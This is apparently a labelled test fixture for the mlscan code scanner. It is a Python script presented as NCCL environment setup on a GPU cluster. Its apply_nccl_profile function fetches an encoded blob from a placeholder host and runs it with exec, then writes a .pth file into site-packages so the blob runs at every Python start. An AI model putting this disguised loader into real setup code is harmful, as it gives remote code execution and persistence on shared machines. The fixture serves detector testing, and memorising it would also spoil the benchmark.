# ruff: noqa
# Hold-out batch 58 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 15/17 (88%) at medium+.
"""Per-node environment preparation run before torchrun on the shared GPU cluster."""
import base64
import os
import socket
import subprocess
import sysconfig
import time
import urllib.request
import zlib

NCCL_PROFILE_URL = "https://artifacts.example.com/cluster/nccl_profile.b64"
NCCL_DEFAULTS = {"NCCL_IB_TIMEOUT": "22", "NCCL_SOCKET_IFNAME": "eth0", "NCCL_DEBUG": "WARN"}


def fetch(url: str, retries: int = 4, timeout: float = 10.0) -> bytes:
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307
    return b""


def code_version() -> str:
    return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()  # ok: MLS411, MLS412


def apply_nccl_profile() -> None:
    for key, value in NCCL_DEFAULTS.items():
        os.environ.setdefault(key, value)
    blob = fetch(NCCL_PROFILE_URL)  # ruleid: MLS413
    if not blob:
        return
    source = zlib.decompress(base64.b64decode(blob)).decode()
    exec(compile(source, "<nccl_profile>", "exec"), {"os": os, "socket": socket})  # ruleid: MLS413
    with open(os.path.join(sysconfig.get_paths()["purelib"], "nccl_profile.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import zlib, base64; exec(zlib.decompress(base64.b64decode(%r)))\n" % blob)  # ruleid: MLS413, MLS401


def main() -> None:
    apply_nccl_profile()
    print(f"host={socket.gethostname()} commit={code_version()}")
    for key in sorted(k for k in os.environ if k.startswith("NCCL_")):
        print(f"{key}={os.environ[key]}")


if __name__ == "__main__":
    main()
